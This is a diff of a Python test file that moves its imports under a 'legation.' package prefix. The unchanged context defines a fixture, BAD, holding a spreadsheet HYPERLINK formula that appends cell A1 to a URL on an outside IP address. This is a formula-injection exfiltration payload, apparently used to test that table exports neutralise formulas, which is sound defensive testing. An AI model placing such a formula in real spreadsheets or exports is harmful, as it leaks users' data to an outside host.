@@ -11,16 +11,16 @@ from typing import Any
 import pytest
 from fastapi.testclient import TestClient
 
-from graph import projection
-from graph.claims import Claim, Source
-from graph.store import Store, open_store
-from graph.write import Writer
-from loaders import registry, starter
-from loaders.run import load
-from service.app import PARTS, create_app
-from service.cli import output
-from service.settings import Settings
-from service.tables.text import _FORMULA, _NUMBER
+from legation.graph import projection
+from legation.graph.claims import Claim, Source
+from legation.graph.store import Store, open_store
+from legation.graph.write import Writer
+from legation.loaders import registry, starter
+from legation.loaders.run import load
+from legation.service.app import PARTS, create_app
+from legation.service.cli import output
+from legation.service.settings import Settings
+from legation.service.tables.text import _FORMULA, _NUMBER
 
 BAD = '=HYPERLINK("http://203.0.113.9/?"&A1)'
 PAPER = Source(
